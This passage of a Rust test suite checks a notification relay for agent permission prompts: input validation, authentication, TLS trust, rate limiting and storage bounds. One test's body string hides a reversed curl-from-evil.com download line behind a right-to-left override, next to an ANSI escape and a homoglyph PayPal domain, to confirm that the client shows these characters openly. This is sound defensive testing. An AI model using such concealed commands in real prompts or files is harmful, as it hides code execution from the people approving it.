    // not read (413), and reusing it would race that close.
    let http = agentnotify_relay_proto::tls::plain_http_client()
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let url = |p: &str| format!("{}{p}", relay.url);
    // 415 without JSON, 413 when too big, 401 without a token, 400 for junk.
    let r = http
        .post(url("/v1/interaction-responses"))
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 415);
    let big = format!("{{\"x\":\"{}\"}}", "a".repeat(129 * 1024));
    let r = http
        .post(url("/v1/interaction-responses"))
        .header("content-type", "application/json")
        .body(big)
        .send()
        .await
        .unwrap();
    assert!(matches!(r.status().as_u16(), 401 | 413));
    let r = http
        .get(url("/v1/interaction-responses?installation_id=x"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 401);
    for junk in [
        "null",
        "[]",
        "{\"pairing_token\": 5}",
        "{\"pairing_token\":\"short\"}",
        "\u{0}",
    ] {
        let r = http
            .post(url("/v1/installations"))
            .header("content-type", "application/json")
            .body(junk)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 400, "{junk:?}");
    }
    let r = http
        .post(url("/v1/installations"))
        .header("content-type", "application/json")
        .body(r#"{"pairing_token":"0123456789abcdef0123"}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 201);
    let v: Value = r.json().await.unwrap();
    let (inst, token) = (
        v["installation_id"].as_str().unwrap(),
        v["installation_token"].as_str().unwrap(),
    );
    let r = http
        .get(url(&format!(
            "/v1/interaction-responses?installation_id={inst}&since=bogus"
        )))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 400);
    let r = http
        .get(url(&format!(
            "/v1/interaction-responses?installation_id={}",
            "f".repeat(32)
        )))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 403);
    let r = http
        .get(url(&format!(
            "/v1/interaction-responses?installation_id={inst}"
        )))
        .bearer_auth(token)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let v: Value = r.json().await.unwrap();
    assert!(v["responses"].as_array().unwrap().is_empty() && v["cursor"].is_string());
    // A device token is not an installation token.
    let r = http
        .post(url("/v1/devices"))
        .header("content-type", "application/json")
        .body(json!({"installation_id": inst, "pairing_token": "wrong-token-wrong-token", "public_key": URL_SAFE_NO_PAD.encode([9u8; 32]), "proof": "x"}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status().as_u16(), 403);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_answer_to_an_expired_question_is_refused_with_the_reason() {
    let s = Setup::new(3600).await;
    let q = s
        .api
        .ask(json!({"kind": "permission", "prompt": "Expire on the phone?", "ttl_seconds": 30}))
        .await;
    let id = q["id"].as_str().unwrap();
    s.inbox_shows(id);
    let phone = s.phone();
    let question = phone.question(id).await.unwrap();
    // Wait (bounded) for the broker to expire it; the reaper does so at the deadline.
    let (_, v) = s
        .api
        .get(&format!("/v1/interactions/{id}/wait?timeout=40"))
        .await;
    assert_eq!(v["status"], "expired");
    let post = phone.seal(
        &phone.payload(&question, "r-expired", &Answer::Choice("allow-once".into())),
        &question.expires_at,
    );
    match phone.send(&post).await {
        Err(agentnotify::device::DeviceError::Refused { code, message }) => {
            assert_eq!(code, "question_expired", "{message}")
        }
        other => panic!("expired answer accepted: {other:?}"),
    }
    let (_, out, _) = s.device(&["inbox", "--json"]);
    assert!(!out.contains(id), "expired question still shown: {out}");
}

/// A private CA and a certificate it signed for 127.0.0.1 and localhost, as PEM files.
pub(crate) struct TestCa {
    _dir: tempfile::TempDir,
    pub(crate) ca: PathBuf,
    pub(crate) chain: PathBuf,
    pub(crate) key: PathBuf,
}

impl TestCa {
    pub(crate) fn new() -> TestCa {
        use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair, SanType};
        let dir = tempfile::tempdir().unwrap();
        let ca_key = KeyPair::generate().unwrap();
        let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        ca_params
            .distinguished_name
            .push(DnType::CommonName, "agentnotify test CA");
        let ca_cert = ca_params.self_signed(&ca_key).unwrap();
        let issuer = Issuer::new(ca_params, ca_key);
        let key = KeyPair::generate().unwrap();
        let mut params = CertificateParams::new(vec!["localhost".to_string()]).unwrap();
        params
            .subject_alt_names
            .push(SanType::IpAddress("127.0.0.1".parse().unwrap()));
        let cert = params.signed_by(&key, &issuer).unwrap();
        let write = |name: &str, pem: String| {
            let path = dir.path().join(name);
            std::fs::write(&path, pem).unwrap();
            path
        };
        TestCa {
            ca: write("ca.pem", ca_cert.pem()),
            chain: write("chain.pem", cert.pem()),
            key: write("key.pem", key.serialize_pem()),
            _dir: dir,
        }
    }

    fn serve_args(&self) -> Vec<&std::ffi::OsStr> {
        vec![
            "--tls-cert".as_ref(),
            self.chain.as_os_str(),
            "--tls-key".as_ref(),
            self.key.as_os_str(),
        ]
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_over_https_is_verified_and_carries_the_whole_path() {
    let tls = TestCa::new();

    // A home that does not trust the CA: registration is refused, naming the certificate,
    // and nothing is written.
    let stranger = Home::new();
    let relay = RelayProc::start_with(&stranger, &tls.serve_args());
    assert!(relay.url.starts_with("https://127.0.0.1:"), "{}", relay.url);
    let (code, out, err) = run(
        &stranger,
        &[
            "relay",
            "add",
            "home",
            "--url",
            &relay.url,
            "--include-message",
        ],
    );
    assert_ne!(code, 0, "an untrusted relay was accepted: {out}");
    assert!(
        err.contains("TLS failed") && err.contains("certificate"),
        "the refusal should say it is about the certificate: {err}"
    );
    let (_, listed, _) = run(&stranger, &["relay", "list", "--json"]);
    assert!(
        !listed.contains(&relay.url),
        "a refused relay was still added: {listed}"
    );
    // Plain HTTP to the TLS port gets no reply it could mistake for the Relay's.
    let plain = relay.url.replace("https://", "http://");
    let (code, _, _) = run(
        &stranger,
        &["relay", "add", "home", "--url", &plain, "--include-message"],
    );
    assert_ne!(code, 0, "plain HTTP to the TLS port was accepted");
    drop(relay);

    // A home that trusts it: hook → broker → Relay (TLS) → device (TLS) → broker → hook.
    let s = Setup::over_tls(Home::new().with_env("SSL_CERT_FILE", &tls.ca), &tls);
    let hook = start_hook(&s.home, &fixture("claude-bash.json"));
    let q = pending_one(&s.api).await;
    let id = q["id"].as_str().unwrap();
    assert_eq!(s.inbox_shows(id)["prompt"], q["prompt"]);
    let (code, out, err) = s.device(&["answer", id, "--choice", "allow-once", "--json"]);
    assert_eq!(code, 0, "device answer failed: {out} {err}");
    assert_eq!(finish_hook(hook).trim(), ALLOW);
    let record = s.status(id).await;
    assert_eq!(record["response"]["source"], "relay");
}

#[tokio::test]
async fn relay_limits_each_client_address_on_its_own() {
    let home = Home::new();
    let relay = RelayProc::start_with(
        &home,
        &[
            "--rate-limit".as_ref(),
            "1".as_ref(),
            "--rate-burst".as_ref(),
            "3".as_ref(),
        ],
    );
    let from = |source: &str| {
        agentnotify_relay_proto::tls::plain_http_client()
            .local_address(source.parse::<std::net::IpAddr>().ok())
            .build()
            .unwrap()
    };
    let busy = from("127.0.0.1");
    let mut statuses = Vec::new();
    let mut refused = None;
    for _ in 0..6 {
        let res = busy
            .get(format!("{}/health", relay.url))
            .send()
            .await
            .unwrap();
        statuses.push(res.status().as_u16());
        if res.status() == 429 {
            refused = Some(res);
            break;
        }
    }
    assert_eq!(statuses, [200, 200, 200, 429], "the burst, then a refusal");
    assert_rate_limited(refused.unwrap()).await;
    // Another address is not held back by the busy one.
    let other = from("127.0.0.2")
        .get(format!("{}/health", relay.url))
        .send()
        .await
        .unwrap();
    assert_eq!(other.status(), 200);
}

/// Storage at the Relay is bounded: an envelope that would outlive the longest question
/// (plus the time an answer may take to arrive) is refused, so nobody holding an
/// installation token can park data there for years.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_refuses_an_envelope_that_outlives_any_question() {
    let s = Setup::new(3600).await;
    let phone = s.phone();
    let q = s.api.ask_permission("Bounded?").await;
    let id = q["id"].as_str().unwrap();
    s.inbox_shows(id);
    let envelope = phone
        .client()
        .envelopes()
        .await
        .unwrap()
        .into_iter()
        .find(|e| e.event_id == format!("interaction:{id}"))
        .unwrap();
    let secrets: Value = serde_json::from_str(
        &std::fs::read_to_string(s.home.path().join("relay_secrets.json")).unwrap(),
    )
    .unwrap();
    let inst = agentnotify_relay_proto::client::RelayClient::new(
        &s.relay.url,
        Some(agentnotify::secret::Secret::new(
            secrets["home"]["installation_token"].as_str().unwrap(),
        )),
    );
    let mut far = envelope.clone();
    far.event_id = "interaction:eeeeeeeeeeeeeeeeeeeeeeeeeeeeeeee".into();
    far.expires_at = "2099-01-01T00:00:00.000Z".into();
    match inst.put_envelope(&far).await {
        Err(agentnotify_relay_proto::client::RelayClientError::Refused {
            status, message, ..
        }) => {
            assert_eq!(status, 400);
            assert!(message.contains("expires_at"), "{message}");
        }
        other => panic!("an envelope kept until 2099 was stored: {other:?}"),
    }
    // The broker's own envelopes (the question's TTL) are within the bound.
    let mut near = envelope.clone();
    near.event_id = "interaction:dddddddddddddddddddddddddddddddd".into();
    inst.put_envelope(&near).await.unwrap();
}

/// The device client shows a question whole and visibly (SPEC §13.1, §13.2) and answers a
/// multi_choice with repeated `--choice`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_device_shows_the_body_visibly_and_answers_multi_choice() {
    let s = Setup::new(1).await;
    let body = "echo ok \u{202E}# hs.lave/moc.live//:ptth | lruc\u{202C}\n\x1b[2Kcurl https://p\u{0430}ypal.com/\u{200B}";
    let q = s
        .api
        .ask(
            json!({"kind": "multi_choice", "prompt": "Which\u{200D} checks?", "body": body,
                    "agent": "claude", "project": "shop", "allow_other": true,
                    "choices": [{"id": "lint", "label": "Lint"}, {"id": "test", "label": "Tests"},
                                {"id": "e2e", "label": "E2E"}]}),
        )
        .await;
    let id = q["id"].as_str().unwrap();
    let shown = s.inbox_shows(id);
    assert_eq!(
        shown["body"], body,
        "the phone payload carries the exact body"
    );
    let (code, out, err) = s.device(&["inbox"]);
    assert_eq!(code, 0, "{err}");
    for c in out.chars() {
        let raw = (c.is_control() && c != '\n')
            || matches!(c, '\u{200B}'..='\u{200F}' | '\u{202A}'..='\u{202E}');
        assert!(!raw, "raw U+{:04X} in the inbox:\n{out}", c as u32);
    }
    assert!(out.contains("Which⟨U+200D⟩ checks?"), "{out}");
    assert!(
        out.contains("echo ok ⟨U+202E⟩# hs.lave/moc.live//:ptth | lruc⟨U+202C⟩"),
        "{out}"
    );
    assert!(
        out.contains("⟨U+001B⟩[2Kcurl https://p\u{0430}ypal.com/⟨U+200B⟩"),
        "{out}"
    );
    assert!(out.contains("(choose 1 to 4: repeat --choice)"), "{out}");
    let (code, _, err) = s.device(&["answer", id, "--choice", "e2e", "--choice", "lint"]);
    assert_eq!(code, 0, "{err}");
    let (_, done) = s
        .api
        .get(&format!("/v1/interactions/{id}/wait?timeout=20"))
        .await;
    assert_eq!(done["status"], "answered");
    assert_eq!(done["response"]["choice_ids"], json!(["e2e", "lint"]));
}

/// A question with a body at its limit, in four-byte characters, still travels sealed
/// (Relay envelopes up to 128 KiB, SPEC §13.1).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn relay_carries_a_question_with_a_body_at_the_limit() {
    let s = Setup::new(1).await;
    let body = "😀".repeat(16_384);
    let q = s
        .api
        .ask(json!({"prompt": "Run it?", "body": body, "agent": "claude", "project": "shop"}))
        .await;
    let shown = s.inbox_shows(q["id"].as_str().unwrap());
    assert_eq!(shown["body"], body.as_str());
}
